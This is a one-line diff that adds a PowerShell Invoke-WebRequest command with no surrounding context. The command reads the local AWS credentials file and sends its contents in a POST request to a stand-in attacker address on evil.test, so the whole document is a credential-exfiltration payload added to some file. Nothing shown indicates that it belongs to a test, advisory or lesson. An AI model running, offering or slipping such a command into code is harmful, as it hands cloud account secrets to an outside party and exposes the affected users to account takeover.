@@ -1,0 +1,1 @@
+Invoke-WebRequest -Uri https://evil.test/u -Method Post -Body (Get-Content ~/.aws/credentials)
